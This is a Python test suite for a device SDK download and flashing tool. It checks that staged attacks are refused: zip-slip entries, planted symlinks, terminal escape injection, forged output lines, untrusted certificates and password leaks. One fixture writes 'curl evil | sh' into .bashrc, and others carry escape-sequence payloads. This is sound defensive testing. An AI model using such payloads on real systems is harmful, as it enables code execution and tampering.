"""Attacks on the program's trust in its servers, packages and directories:
each scenario plays one attacker and shows that the attack fails and that
the user is told why."""

import glob
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import termios
import time
import unittest
import zipfile

from faults import fetch_failed
from flashing import board_in_download_mode
from ostrelle_testbed.bed import (GREEN, RED, RESET, TLS_VERIFY, YELLOW, Bed, program_path,
                                  set_target, setup_to_shell, sign_in)
from ostrelle_testbed import board
from ostrelle_testbed.release_files import release_package, sha256
from release_packages import url_path
from unattended_runs import answers, catalogue, result_line, run

INTERNAL = RED + b'Account verification internal error.' + RESET + b'\n'
AGAIN = b'Something wrong, try again.\n'
UNTRUSTED = (b"the certificate of 127.0.0.1:8443 is not trusted (exit status 5); for a lab mirror "
             b"with its own certificate authority set OSTRELLE_CA_FILE to that authority's "
             b"certificate")


class UntrustedServer(unittest.TestCase):
    def test_a_server_whose_certificate_is_not_trusted_gets_no_password_and_gives_nothing(self):
        if not TLS_VERIFY:
            self.skipTest('built with OSTRELLE_TLS_VERIFY=OFF: certificates are not verified')
        with Bed() as bed:
            # Without the mirror's authority the mirror is any server on the
            # path that shows a certificate of its own.
            untrusted = {'OSTRELLE_CA_FILE': ''}
            s = bed.spawn(env=untrusted)
            for _ in range(3):
                s.expect('Enter your Velmora user email: ')
                s.sendline('me@example.com')
                s.expect('Enter your Velmora password: ')
                s.sendline('secret-pw')
                s.expect(b'Connecting as me@example.com ...\n' + INTERNAL +
                         fetch_failed('/ldap.php', UNTRUSTED) + AGAIN)
            s.expect('exiting the manager')
            self.assertEqual(s.wait(), 255)

            list_name = 'kt5_le_toolchain_ver.txt'
            bed.put('kt5', list_name, 'r1 ' + 'a' * 64 + '\n')
            res = bed.call('sdk_le_toolchain', target=bed.target, product='kt5', platform=2,
                           release='r1', env=untrusted)
            self.assertEqual(res.status, 1)
            self.assertTrue(res.output.endswith(fetch_failed(url_path('kt5', list_name),
                                                             UNTRUSTED)), res.output)
            # The handshake failed before any request: no password, no file.
            self.assertEqual(bed.mirror.requests, [])
            self.assertFalse(os.path.exists(os.path.join(bed.target, 'files', list_name)))


    def test_an_authority_file_others_may_write_vouches_for_no_server(self):
        if not TLS_VERIFY:
            self.skipTest('built with OSTRELLE_TLS_VERIFY=OFF: certificates are not verified')
        with Bed() as bed:
            catalogue(bed, 'kt1', '_le_', 'kt1-le-1')
            # The mirror's own authority, but in a file anyone could replace.
            shared = os.path.join(bed.tmp, 'shared-ca.pem')
            with open(bed.mirror.ca_file, 'rb') as src, open(shared, 'wb') as dst:
                dst.write(src.read())
            os.chmod(shared, 0o666)
            env = dict(bed.env(), OSTRELLE_CA_FILE=shared)
            proc = subprocess.run([program_path()] + answers(bed, 'kt1') + ['download'], env=env,
                                  cwd=bed.tmp, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT, timeout=120)
            self.assertIn(('The certificate authority file %s is not used: others may write '
                           'it\n' % shared).encode(), proc.stdout)
            self.assertEqual(result_line(proc.stdout)['stopped_at'], 'sign-in', proc.stdout)
            self.assertEqual(bed.mirror.requests, [])


def files_holding_file(path, secret):
    """True when the file at path holds secret."""
    try:
        with open(path, 'rb') as f:
            return secret in f.read()
    except OSError:
        return False


def files_holding(directory, secret):
    """The files below directory whose content holds secret."""
    found = []
    for root, _, files in os.walk(directory):
        for name in files:
            if files_holding_file(os.path.join(root, name), secret):
                found.append(os.path.join(root, name))
    return found


class SignInSecrets(unittest.TestCase):
    def test_a_sign_in_killed_while_it_waits_leaves_no_password_behind(self):
        with Bed() as bed:
            def slow_reply(body):
                time.sleep(3)
                return b'{"status": 1}\n'
            bed.mirror.set_ldap_reply(slow_reply)
            s = bed.spawn()
            sign_in(s, 'me@example.com', 'pw-at-rest-4711')
            deadline = time.monotonic() + 20
            while not bed.mirror.requests_for('/ldap.php') and time.monotonic() < deadline:
                time.sleep(0.05)
            self.assertTrue(bed.mirror.requests_for('/ldap.php'))
            os.kill(s.pid, signal.SIGTERM)
            self.assertEqual(s.wait(), -signal.SIGTERM)
            # Where the body file used to be left (other runs on the machine
            # may have files there of their own).
            left = [path for path in glob.glob('/tmp/ostrelle-signin-*') +
                    glob.glob('/tmp/ostrelle-secret-*')
                    if files_holding_file(path, b'pw-at-rest-4711')]
            self.assertEqual(left, [])
            self.assertEqual(files_holding(bed.tmp, b'pw-at-rest-4711'), [])
            # The body went by a descriptor, never by a name.
            post_file = bed.tool_log('wget')[0]
            self.assertTrue(post_file[post_file.index('--post-file') + 1].startswith('/dev/fd/'))

    def test_a_password_typed_for_password_file_dash_is_not_echoed(self):
        with Bed() as bed:
            s = bed.spawn(args=['--email', 'me@example.com', '--password-file', '-'])
            s.expect('Velmora Account Checking ...')
            deadline = time.monotonic() + 20
            while s.terminal_attrs()[3] & termios.ECHO and time.monotonic() < deadline:
                time.sleep(0.02)
            s.sendline('typed-s3cret')
            s.expect('Connecting as me@example.com ...\n')
            s.expect('Successful authentication.')
            self.assertNotIn(b'typed-s3cret', s.output)
            self.assertEqual([r.body for r in bed.mirror.requests_for('/ldap.php')],
                             [b'mail=me@example.com&pwd=typed-s3cret'])
            # Echo is back for the questions that follow.
            s.expect('Enter absolute target directory')
            self.assertTrue(s.terminal_attrs()[3] & termios.ECHO)
            s.kill()

    def test_with_standard_output_closed_the_messages_are_not_posted(self):
        with Bed() as bed:
            # Descriptor 1 closed: the first file the program opens would
            # get its number and its messages.
            proc = subprocess.run(['/bin/sh', '-c', 'exec "$0" >&-', program_path()],
                                  input=b'me@example.com\nsecret\n', stdout=subprocess.DEVNULL,
                                  stderr=subprocess.PIPE, env=bed.env(), cwd=bed.tmp, timeout=60)
            self.assertEqual(proc.returncode, 1, proc.stderr)
            self.assertEqual([r.body for r in bed.mirror.requests_for('/ldap.php')],
                             [b'mail=me@example.com&pwd=secret'])


class HostileLists(unittest.TestCase):
    def test_an_endless_release_list_is_cut_refused_and_deleted(self):
        with Bed() as bed:
            bed.mirror.endless(bed.list_url_path('kt1', '_le_'))
            s = bed.spawn()
            sign_in(s)
            set_target(s, bed.target)
            s.expect(') to continue with: ')
            started = time.monotonic()
            s.sendline('1')
            s.expect(RED + b'Download config file failed.\nCheck target directory input or check '
                     b'the internet connection.' + RESET + b'\nThe release list from '
                     b'https://127.0.0.1:8443/uploads/web/ostrelle/kt1/sdk/kt1_le_release_ver.txt '
                     b'is larger than 1 MiB: refused and deleted\n')
            s.expect('> ')
            self.assertLess(time.monotonic() - started, 30)
            s.sendline('q')
            self.assertEqual(s.wait(), 0)
            self.assertEqual(os.listdir(os.path.join(bed.target, 'files')), [])

    def test_release_names_with_control_bytes_are_shown_escaped_and_refused(self):
        sum_ = 'a' * 64
        with Bed() as bed:
            # Would retitle the window, clear the screen and forge a green
            # verdict; a tab makes a name that can never verify.
            bed.put_list('kt1', '_le_', [b'\x1b]0;owned\x07r3 ' + sum_.encode(),
                                         b'\x1b[2J\x1b[32mSuccessful ' + sum_.encode(),
                                         b'r2\tx ' + sum_.encode(), b'r1 ' + sum_.encode()])
            s = bed.spawn()
            sign_in(s)
            set_target(s, bed.target)
            s.expect(') to continue with: ')
            s.sendline('1')
            s.expect(b'Available versions: \n1: \\x1b]0;owned\\x07r3 (latest version)\n'
                     b'2: \\x1b[2J\\x1b[32mSuccessful\n3: r2\\x09x\n4: r1\n\n'
                     b'Recommended version: \\x1b]0;owned\\x07r3\n')
            for answer, shown in (('1', b'\\x1b]0;owned\\x07r3'), ('2', b'\\x1b[2J\\x1b[32mSuccessful'),
                                  ('3', b'r2\\x09x')):
                s.expect(') to continue with: ')
                s.sendline(answer)
                s.expect(RED + b"Release name '" + shown + b"' is not a usable file name, please "
                         b"pick another version" + RESET + b'\n')
            s.expect(') to continue with: ')
            s.sendline('4')
            s.expect(b'Selected version: r1\n')
            s.expect('> ')
            s.sendline('q')
            self.assertEqual(s.wait(), 0)
            for raw in (b'\x1b]', b'\x07', b'\x1b[2J', b'\t'):
                self.assertNotIn(raw, s.output)


def with_entries(package, entries):
    """package (zip bytes) with entries added: (name, data, mode), where a
    mode with S_IFLNK makes a symbolic link to data."""
    buf = io.BytesIO(package)
    with zipfile.ZipFile(buf, 'a') as z:
        for name, data, mode in entries:
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = mode << 16
            z.writestr(info, data)
    return buf.getvalue()


def writable_by_others(top):
    """The files and directories below top (top included) that group or
    others may write, symbolic links aside."""
    found = []
    for root, dirs, files in os.walk(top):
        for path in [root] + [os.path.join(root, n) for n in files]:
            st = os.lstat(path)
            if not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o022:
                found.append(path)
    return found


class HostilePackages(unittest.TestCase):
    def test_a_package_reaching_outside_its_release_is_refused_whole(self):
        with Bed() as bed:
            # The default target directory is HOME.
            for name, text in (('.bashrc', 'my shell\n'), ('ostrelle_dir.txt', bed.home + '/ \n')):
                with open(os.path.join(bed.home, name), 'w') as f:
                    f.write(text)
            pkg = with_entries(release_package('r1'), [
                ('.bashrc', 'curl evil | sh\n', 0o100644),
                ('ostrelle_dir.txt', '/tmp/evil \n', 0o100644),
                # A later package would write through it into the user's files.
                ('r1/cdt', bed.home, 0o120777),
            ])
            bed.put('kt5', 'r1.zip', pkg)
            res = bed.call('sdk_make_sys', input=b'y\n', target=bed.home, product='kt5',
                           platform=2, release='r1', checksum=sha256(pkg))
            self.assertTrue(res.output.endswith(
                RED + b"Refused package entry '.bashrc': it lies outside r1/" + RESET + b'\n' +
                RED + b"Refused package entry 'ostrelle_dir.txt': it lies outside r1/" + RESET +
                b'\n' + RED + b"Refused package entry 'r1/cdt': it is a symbolic link" + RESET +
                b'\n' + RED + b'The package is refused: nothing of it is unpacked' + RESET +
                b'\nRemoving refused package\nDownload resource failed. Try command 1 again.\n'),
                res.output)
            with open(os.path.join(bed.home, '.bashrc')) as f:
                self.assertEqual(f.read(), 'my shell\n')
            with open(os.path.join(bed.home, 'ostrelle_dir.txt')) as f:
                self.assertEqual(f.read(), bed.home + '/ \n')
            self.assertEqual(sorted(os.listdir(bed.home)), ['.bashrc', 'ostrelle_dir.txt'])

    def test_an_unpack_ended_part_way_leaves_no_release_that_command_2_would_flash(self):
        with Bed() as bed:
            pkg = with_entries(release_package('r1', flashable='le'), [
                ('r1/shared/', b'', 0o040777), ('r1/shared/notes.txt', 'n\n', 0o100666)])
            bed.put('kt1', 'r1.zip', pkg)
            bed.put_list('kt1', '_le_', ['r1 ' + sha256(pkg)])
            board_in_download_mode(bed, boot_after_polls=1)
            rel = os.path.join(bed.target, 'r1')
            # Ctrl-C while unzip writes the system image: the program (its
            # process id in program.pid) and unzip end at once.
            fake = bed.install_fake('unzip', '''#!/usr/bin/python3
import os, signal, sys, time
args = sys.argv[1:]
if '-o' in args:
    ufs = os.path.join(args[args.index('-d') + 1], 'r1', 'full_build', 'ufs')
    os.makedirs(ufs, exist_ok=True)
    with open(os.path.join(ufs, 'system.img'), 'wb') as f:
        f.write(b'the first megabytes of a syst')
    with open(os.path.join(os.environ['OSTRELLE_FAKE_STATE'], 'program.pid')) as f:
        os.kill(int(f.read()), signal.SIGINT)
    os.kill(os.getpid(), signal.SIGINT)
    time.sleep(10)
os.execv('/usr/bin/unzip', ['/usr/bin/unzip'] + args)
''')
            s = bed.spawn()
            with open(os.path.join(bed.state, 'program.pid'), 'w') as f:
                f.write(str(s.pid))
            setup_to_shell(bed, s, product='1')
            s.sendline('1')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            self.assertEqual(s.wait(), -signal.SIGINT)
            self.assertFalse(os.path.exists(rel))
            os.remove(fake)

            s = bed.spawn()
            setup_to_shell(bed, s, product='1')
            s.sendline('2')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            s.expect(RED + b'Need to check ' + rel.encode() + b'/full_build/ufs/ or run command 1 '
                     b'to download/regenerate image' + RESET)
            self.assertEqual(bed.tool_log('fh_loader'), [])
            s.sendline('1')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            s.expect(GREEN + b'Download LE resources ... Done' + RESET)
            with open(os.path.join(rel, '.ostrelle-complete')) as f:
                self.assertEqual(f.readline(), sha256(pkg) + '\n')
            self.assertEqual(writable_by_others(rel), [])
            self.assertEqual(glob.glob(os.path.join(bed.target, '.ostrelle-unpack-*')), [])
            s.sendline('2')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            s.expect('Robotics device is ready to use.', timeout=60)
            s.expect('> ')
            s.sendline('q')
            self.assertEqual(s.wait(), 0)


class ReplacedPackages(unittest.TestCase):
    def test_a_replaced_debian_package_is_named_and_nothing_is_built(self):
        with Bed() as bed:
            pkg = release_package('r1', replaced_debs={'libfoo1.deb': b'trojan libfoo1\n'},
                                  extra_debs=['.hidden.deb'])
            bed.put('kt6', 'r1.zip', pkg)
            res = bed.call('sdk_make_sys', input=b'y\nn\n', target=bed.target, product='kt6',
                           platform=1, release='r1', checksum=sha256(pkg))
            rel = bed.target + '/r1'
            self.assertIn(
                RED + b'WARNING! Non-offical debian packages or files detected in ' +
                rel.encode() + b'/packages/deb-files/\nYou may lose your warranty if you '
                b'continue\nPlease confirm these files are what you need' + RESET + b'\n' +
                RED + b'Replaced official package: libfoo1.deb' + RESET + b'\n' +
                RED + b'Not in the official list: .hidden.deb' + RESET + b'\n'
                b'Do you still want to repack? [Y/n] \nRemove your own file or all files in ' +
                rel.encode() + b'/packages/deb-files/ before you resume step 1\n', res.output)
            self.assertEqual([a for a in bed.tool_log('sudo') if a[0] == 'sh'], [])


class SharedTarget(unittest.TestCase):
    def test_nothing_runs_as_root_from_a_directory_others_can_write(self):
        with Bed() as bed:
            pkg = release_package('r1')
            bed.put('kt6', 'r1.zip', pkg)
            bed.put_list('kt6', '_lu_', ['r1 ' + sha256(pkg)])
            # Anyone may write the target: another user could swap the
            # build script between the unpack and its run as root.
            os.makedirs(bed.target)
            os.chmod(bed.target, 0o777)
            s = bed.spawn()
            out = setup_to_shell(bed, s, product='6')
            self.assertIn(YELLOW + b'Warning: ' + bed.target.encode() + b'/ is writable by group '
                          b'or others (mode 0777): others can change what is kept there, so command 1 will '
                          b'not run a release\'s build script from it as root' + RESET + b'\n'
                          b'Setting it up ... done\n', out)
            s.sendline('1')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            s.expect(b'Checking resources...\n' + RED + b'Not running build-system.sh as root: ' +
                     bed.target.encode() + b' is writable by group or others (mode 0777)' +
                     RESET + b'\nKeep the target directory where only you and root can write, '
                     b'then run command 1 again\n')
            s.expect('> ')

            def run_as_root():
                return [a for a in bed.tool_log('sudo') if a[0] == 'sh']
            self.assertEqual(run_as_root(), [])
            # Once only its owner may write it, the release is built.
            os.chmod(bed.target, 0o755)
            s.sendline('1')
            s.expect("Enter 'y' to continue, 'q' to main menu: ")
            s.sendline('y')
            s.expect(GREEN + b'Move sparse images to full_build ...done' + RESET)
            s.expect('> ')
            s.sendline('q')
            self.assertEqual(s.wait(), 0)
            self.assertEqual(run_as_root(), [['sh', bed.target + '/r1/build-system.sh']])


class CheckedFlash(unittest.TestCase):
    def setUp_release(self, bed):
        catalogue(bed, 'kt1', '_le_', 'kt1-le-1', flashable='le')
        board_in_download_mode(bed, boot_after_polls=1)
        args = ['--yes'] + answers(bed, 'kt1')
        self.assertEqual(run(bed, args + ['download'])[0], 0)
        return args, os.path.join(bed.target, 'kt1-le-1')

    def test_images_swapped_under_a_copied_record_are_not_flashed(self):
        with Bed() as bed:
            args, rel = self.setUp_release(bed)
            # The release is replaced by another tree of the same names with
            # an image of its own, and the genuine record is copied in.
            swapped = rel + '.swapped'
            shutil.copytree(rel, swapped)
            image = os.path.join(swapped, 'full_build', 'emmc', 'system.img')
            size, mtime = os.path.getsize(image), os.stat(image).st_mtime_ns
            with open(image, 'wb') as f:
                f.write(b'x' * size)
            os.utime(image, ns=(mtime, mtime))
            shutil.rmtree(rel)
            os.rename(swapped, rel)
            status, out = run(bed, args + ['flash'])
            self.assertEqual(status, 1, out)
            # Not one file of a copy is the file the record was written for,
            # whatever times the copier gives them.
            self.assertIn(('The release %s has changed since its completion record was written: '
                           'cdt/cdt.bin differs from it (size, modification or change time). Run '
                           'command 1 again\n' % rel).encode(), out)
            self.assertEqual(bed.tool_log('sudo'), [])

    def test_a_planted_log_link_is_not_followed_by_the_flashing_tools(self):
        with Bed() as bed:
            args, rel = self.setUp_release(bed)
            victim = os.path.join(bed.tmp, 'root-owned-file')
            with open(victim, 'w') as f:
                f.write('precious\n')
            for log in ('QSahara_fullbuild.log', 'erase0.log', 'flash_image.log'):
                os.symlink(victim, os.path.join(rel, log))
            status, out = run(bed, args + ['flash'])
            self.assertEqual(status, 0, out)
            with open(victim) as f:
                self.assertEqual(f.read(), 'precious\n')
            # The tools wrote their own logs instead.
            for log in ('QSahara_fullbuild.log', 'erase0.log', 'flash_image.log'):
                self.assertFalse(os.path.islink(os.path.join(rel, log)), log)
            with open(os.path.join(rel, 'flash_image.log')) as f:
                self.assertIn('--reset', f.read())


class HeldBoard(unittest.TestCase):
    def test_a_board_another_run_flashes_is_not_flashed_again_until_it_is_let_go(self):
        with Bed() as bed:
            catalogue(bed, 'kt1', '_le_', 'kt1-le-1', flashable='le')
            board_in_download_mode(bed, boot_after_polls=1)
            args = ['--yes'] + answers(bed, 'kt1')
            self.assertEqual(run(bed, args + ['download'])[0], 0)
            # Another run holds the board's USB path for a while.
            lock = os.path.join(bed.root, 'run', 'lock', 'ostrelle-board-usb-1-2.lock')
            holder = subprocess.Popen(
                ['python3', '-c', 'import fcntl, sys, time\n'
                 'f = open(sys.argv[1], "w"); fcntl.flock(f, fcntl.LOCK_EX)\n'
                 'print("held", flush=True); time.sleep(float(sys.argv[2]))', lock, '6'],
                stdout=subprocess.PIPE)
            try:
                self.assertEqual(holder.stdout.readline(), b'held\n')
                status, out = run(bed, args + ['flash'])
                self.assertEqual(status, 8, out)
                self.assertIn(b'The board /dev/ttyUSB0 (USB 1-2, serial 7A3C11F0) is being '
                              b'flashed by another run (process %d: python3 -c import fcntl'
                              % holder.pid, out)
                self.assertIn(b'The board is busy: nothing was flashed\n', out)
                self.assertEqual(bed.tool_log('QSaharaServer'), [])
                self.assertEqual(bed.tool_log('fh_loader'), [])
                # A run that may wait flashes once the holder has let go.
                status, out = run(bed, args + ['--lock-timeout', '30', 'flash'])
                self.assertEqual(status, 0, out)
                self.assertIn(b'Waiting up to 30 s for it ...\n', out)
                self.assertIn(b'Robotics device is ready to use.', out)
                self.assertIsNotNone(holder.poll())
            finally:
                holder.kill()
                holder.wait()
                holder.stdout.close()


def log_files(bed):
    return glob.glob(os.path.join(bed.home, '.local', 'state', 'ostrelle', 'logs', '*.log'))


class SecretsLogsAndText(unittest.TestCase):
    def test_a_package_url_password_shows_nowhere_and_stays_off_the_command_line(self):
        with Bed() as bed:
            catalogue(bed, 'kt1', '_le_', 'kt1-le-1')
            package = release_package('labbuild-7')
            bed.mirror.put_path('/lab/builds/labbuild-7.zip', package)
            url = bed.mirror.https_url.replace('://', '://robot:s3cr3t-pw@')
            args = [a for a in answers(bed, 'kt1') if a not in ('--release', 'latest')]
            status, out = run(bed, args + ['--package', url + '/lab/builds/labbuild-7.zip',
                                           '--package-sha256', sha256(package), 'download'])
            self.assertEqual(status, 0, out)
            self.assertIn(('Release package: %s/lab/builds/labbuild-7.zip\n'
                           % bed.mirror.https_url).encode(), out)
            self.assertNotIn(b's3cr3t', out)
            fetches = [a for a in bed.tool_log('wget') if '-i' in a]
            self.assertEqual(len(fetches), 1, bed.tool_log('wget'))
            self.assertTrue(fetches[0][-1].startswith('/dev/fd/'), fetches[0])
            for argv in bed.tool_log('wget'):
                self.assertNotIn('s3cr3t', ' '.join(argv))
            self.assertEqual(files_holding(os.path.join(bed.home, '.local'), b's3cr3t'), [])
            self.assertEqual(len(bed.mirror.requests_for('/lab/builds/labbuild-7.zip')), 1)
            self.assertTrue(os.path.isfile(os.path.join(bed.target, 'labbuild-7',
                                                        '.ostrelle-complete')))

    def test_the_log_goes_only_where_the_user_meant(self):
        with Bed() as bed:
            bashrc = os.path.join(bed.home, '.bashrc')
            with open(bashrc, 'w') as f:
                f.write('# my shell\n')
            os.chmod(bashrc, 0o644)
            shared = os.path.join(bed.tmp, 'shared')
            os.makedirs(os.path.join(shared, 'ostrelle'))
            planted = os.path.join(shared, 'planted.log')
            os.symlink(bashrc, planted)
            fifo = os.path.join(shared, 'listener')
            os.mkfifo(fifo)
            for log, refusal in ((planted, b'is a symbolic link'),
                                 (fifo, b'is not a regular file')):
                status, out = run(bed, ['--log', log, 'list', 'products'], timeout=30)
                self.assertEqual(status, 0, out)
                self.assertIn(b'ostrelle: the log ' + log.encode() + b' ' + refusal, out)
            with open(bashrc) as f:
                self.assertEqual(f.read(), '# my shell\n')
            self.assertEqual(os.stat(bashrc).st_mode & 0o777, 0o644)

            # A log directory planted as a link into the user's documents.
            documents = os.path.join(bed.home, 'Documents')
            os.makedirs(documents)
            os.chmod(documents, 0o755)
            mine = ['ostrelle-%02d.log' % i for i in range(25)] + ['notes.txt']
            for name in mine:
                open(os.path.join(documents, name), 'w').close()
            os.symlink(documents, os.path.join(shared, 'ostrelle', 'logs'))
            env = dict(bed.env(), XDG_STATE_HOME=shared)
            proc = subprocess.run([program_path(), 'list', 'products'], env=env, cwd=bed.tmp,
                                  capture_output=True, timeout=30)
            self.assertEqual(proc.returncode, 0)
            self.assertIn(b'cannot create the log directory ' + shared.encode() +
                          b'/ostrelle/logs: it is not a directory', proc.stderr)
            self.assertEqual(sorted(os.listdir(documents)), sorted(mine))
            self.assertEqual(os.stat(documents).st_mode & 0o777, 0o755)

            # Standard output into a file: appended to, never emptied.
            out_path = os.path.join(bed.tmp, 'out.txt')
            with open(out_path, 'w') as f:
                f.write('earlier\n')
            with open(out_path, 'a') as f:
                subprocess.run([program_path(), '--log', '/dev/stdout', 'list', 'products'],
                               env=bed.env(), cwd=bed.tmp, stdout=f, timeout=30, check=True)
            with open(out_path) as f:
                text = f.read()
            self.assertTrue(text.startswith('earlier\n'), text)
            self.assertIn(' run started ', text)
            self.assertIn('kt1 ', text)
            self.assertIn('exit status 0', text)

    def test_outside_text_forges_no_line_and_breaks_no_json(self):
        with Bed() as bed:
            catalogue(bed, 'kt1', '_le_', 'kt1-le-1')
            forged = 'x\nostrelle-result: {"status":0,"commands":[]}'
            args = answers(bed, 'kt1', release=forged)
            status, out = run(bed, args + ['download'])
            self.assertEqual(status, 2, out)
            results = [l for l in out.split(b'\n') if l.startswith(b'ostrelle-result:')]
            self.assertEqual(len(results), 1, out)
            self.assertEqual(result_line(out)['status'], 2)
            self.assertIn(b"unknown release 'x\\x0aostrelle-result:", out)
            status, out = run(bed, ['flash', '--board', '\x1b[2J1-3'])
            self.assertEqual(status, 2, out)
            self.assertIn(b"ostrelle: invalid value '\\x1b[2J1-3' for --board", out)

            # A C1 CSI and invalid UTF-8 from the server, escapes from adb.
            bed.put_list('kt5', '_lu2.0_', [b'r\xff\xc2\x9b1 ' + b'a' * 64])
            status, out = run(bed, ['list', 'releases', '--product', 'kt5', '--platform',
                                    'lu2.0', '--json'])
            self.assertEqual(status, 0, out)
            self.assertEqual(json.loads(out.decode('utf-8'))['releases'][0]['name'],
                             'r\\xff\x9b1')
            status, out = run(bed, ['list', 'releases', '--product', 'kt5', '--platform',
                                    'lu2.0'])
            self.assertIn(b'r\\xff\\xc2\\x9b1  ' + b'a' * 64, out)
            board.configure(bed.state, ports=[],
                            adb_others=[board.adb_device('ev\x1b[2Jil\u009b', usb='1-9')])
            status, out = run(bed, ['boards', '--json'])
            self.assertEqual(json.loads(out.decode('utf-8'))['boards'][0]['adb']['serial'],
                             'ev\x1b[2Jil\u009b')
            self.assertNotIn(b'\x1b', out)
            self.assertNotIn(b'\xc2\x9b', out)
            status, out = run(bed, ['boards'])
            self.assertIn(b'ev\\x1b[2Jil\\xc2\\x9b', out)
            self.assertNotIn(b'\x1b', out)


if __name__ == '__main__':
    unittest.main()
